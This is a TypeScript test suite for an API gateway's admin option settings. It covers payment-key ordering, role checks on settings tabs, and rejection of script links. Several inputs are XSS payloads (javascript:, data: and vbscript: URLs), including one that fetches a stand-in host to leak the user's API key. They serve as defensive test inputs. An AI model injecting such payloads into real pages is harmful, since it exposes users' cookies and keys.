// Option rules the super admin's settings tabs rely on: several keys saved at once and checked
// together (payment after the server address), comma lists cleaned, and the model ratio reset.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { type ApiSession, newUserSession, rootSession } from "../helpers/api-session.ts";
import { startTestServer, type TestServer } from "../helpers/test-server.ts";
import { createTestStore } from "../helpers/test-store.ts";

let server: TestServer;
let root: ApiSession;
beforeAll(async () => {
  server = await startTestServer();
  root = await rootSession(server.url);
});
afterAll(() => server.stop());

async function option(key: string): Promise<string> {
  const [row] = await server.store.query<{ value: string }>("select value from options where key = ?", key);
  return row!.value;
}

describe("option rules", () => {
  test("payment keys wait for the server address, which may come in the same save", async () => {
    expect((await root.put("/api/option/", { key: "EpayId", value: "1001" })).body).toEqual({
      success: false,
      message: "请先填写服务器地址",
    });
    expect((await root.put("/api/option/", { key: "MinTopUp", value: "5" })).body.message).toBe("请先填写服务器地址");
    expect(await option("EpayId")).toBe("");
    // Clearing a payment key is always allowed.
    expect((await root.put("/api/option/", { key: "EpayId", value: "" })).body.success).toBe(true);
    const together = await root.put("/api/option/", [
      { key: "EpayId", value: "1001" },
      { key: "ServerAddress", value: "https://gw.example.com/" },
    ]);
    expect(together.body.success).toBe(true);
    expect(await option("EpayId")).toBe("1001");
    expect(await option("ServerAddress")).toBe("https://gw.example.com");
  });

  test("a list is all or nothing", async () => {
    const result = await root.put("/api/option/", [
      { key: "RetryTimes", value: "4" },
      { key: "GroupRatio", value: "{broken" },
    ]);
    expect(result.body).toEqual({ success: false, message: "不是合法的 JSON 字符串" });
    expect(await option("RetryTimes")).toBe("0");
  });

  test("the email whitelist keeps each domain once and drops empty entries", async () => {
    await root.put("/api/option/", { key: "EmailDomainWhitelist", value: " a.com,,b.org \n a.com , c.net," });
    expect(await option("EmailDomainWhitelist")).toBe("a.com,b.org,c.net");
  });

  test("the dashboard's default granularity is hour, day or week, and the status follows", async () => {
    expect((await root.put("/api/option/", { key: "DataExportDefaultTime", value: "month" })).body).toEqual({
      success: false,
      message: "配置项 DataExportDefaultTime 只能是 hour / day / week",
    });
    expect(await option("DataExportDefaultTime")).toBe("hour");
    expect((await root.put("/api/option/", { key: "DataExportDefaultTime", value: "week" })).body.success).toBe(true);
    expect((await root.get("/api/status")).body.data.data_export_default_time).toBe("week");
    await root.put("/api/option/", { key: "DataExportDefaultTime", value: "hour" });
  });

  test("model ratios reset to the built-in table (super admin only)", async () => {
    const user = await newUserSession(server.url, "noreset");
    expect((await user.post("/api/option/rest_model_ratio")).body.message).toBe("无权进行此操作，权限不足");
    const builtIn = JSON.parse(await option("ModelRatio"));
    expect((await root.put("/api/option/", { key: "ModelRatio", value: '{"only-model": 3}' })).body.success).toBe(true);
    const reset = await root.post("/api/option/rest_model_ratio");
    expect(reset.body).toEqual({ success: true, message: "重置模型倍率成功" });
    expect(JSON.parse(await option("ModelRatio"))).toEqual(builtIn);
    const listed = (await root.get("/api/option/")).body.data as { key: string; value: string }[];
    expect(JSON.parse(listed.find((entry) => entry.key === "ModelRatio")!.value)).toEqual(builtIn);
  });

  test("the settings tabs other than personal, /redemption and /detail follow the roles", async () => {
    const admin = await newUserSession(server.url, "tabadmin");
    await server.store.query("update users set role = 10 where username = ?", "tabadmin");
    const page = (session: ApiSession, path: string) =>
      fetch(server.url + path, { headers: { cookie: session.cookie }, redirect: "manual" });
    for (const tab of ["operation", "ratelimit", "model", "system", "other"]) {
      expect((await page(admin, `/setting?tab=${tab}`)).status).toBe(403);
      const rendered = await page(root, `/setting?tab=${tab}`);
      expect(rendered.status).toBe(200);
      expect(await rendered.text()).toContain("data-option-form");
    }
    expect((await page(admin, "/redemption")).status).toBe(200);
    expect((await page(admin, "/topup")).status).toBe(200);
    const plain = await newUserSession(server.url, "tabuser");
    expect((await page(plain, "/redemption")).status).toBe(403);
    expect((await page(plain, "/detail")).status).toBe(200);
  });
});

describe("links rendered into pages (issue 15 §6)", () => {
  test("TopUpLink, Logo and the chat links take http(s) only, however the scheme is disguised", async () => {
    for (const key of ["TopUpLink", "Logo", "ChatLink", "ChatLink2"]) {
      for (const value of [
        "javascript:alert(document.cookie)",
        " JavaScript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
      ]) {
        expect({ key, value, body: (await root.put("/api/option/", { key, value })).body }).toEqual({
          key,
          value,
          body: { success: false, message: `配置项 ${key} 只能是 http:// 或 https:// 链接` },
        });
      }
      expect(await option(key)).toBe("");
      expect((await root.put("/api/option/", { key, value: "https://shop.example.com/buy" })).body.success).toBe(true);
      expect((await root.put("/api/option/", { key, value: "" })).body.success).toBe(true);
    }
    expect((await root.put("/api/option/", { key: "Logo", value: "/logo.svg" })).body.success).toBe(true);
  });

  test("Chats templates open a page or an app (the defaults' ama:// and opencat://), never script", async () => {
    const bad = JSON.stringify([{ Web: "https://chat.example.com/?key={key}" }, { Evil: "javascript:fetch('//x.example/'+'{key}')" }]);
    expect((await root.put("/api/option/", { key: "Chats", value: bad })).body).toEqual({
      success: false,
      message: "聊天链接 Evil 只能是 http(s) 链接或应用链接",
    });
    const good = JSON.stringify([
      { Web: "https://chat.example.com/?key={key}&url={address}" },
      { AMA: "ama://set-api-key?server={address}&key={key}" },
    ]);
    expect((await root.put("/api/option/", { key: "Chats", value: good })).body.success).toBe(true);
  });

  test("a script link stored by an older version never reaches a page", async () => {
    const store = await createTestStore();
    try {
      const first = await startTestServer({ store });
      await first.stop();
      for (const key of ["TopUpLink", "Logo", "ChatLink"])
        await store.query("update options set value = ? where key = ?", "javascript:alert(1)", key);
      await store.query("update options set value = ? where key = 'Chats'", JSON.stringify([{ Evil: "javascript:alert('{key}')" }]));
      const later = await startTestServer({ store });
      try {
        const status = (await (await fetch(`${later.url}/api/status`)).json()) as { data: Record<string, unknown> };
        expect([status.data.logo, status.data.top_up_link, status.data.chat_link]).toEqual(["", "", ""]);
        const session = await rootSession(later.url);
        await session.post("/api/token/", { name: "t", remain_quota: 0, unlimited_quota: true, expired_time: -1 });
        for (const path of ["/", "/topup", "/token", "/chat/0"]) {
          const html = await (await fetch(`${later.url}${path}`, { headers: { cookie: session.cookie } })).text();
          expect({ path, script: html.toLowerCase().includes("javascript:alert") }).toEqual({ path, script: false });
        }
      } finally {
        await later.stop();
      }
    } finally {
      await store.dispose();
    }
  }, 60_000);
});
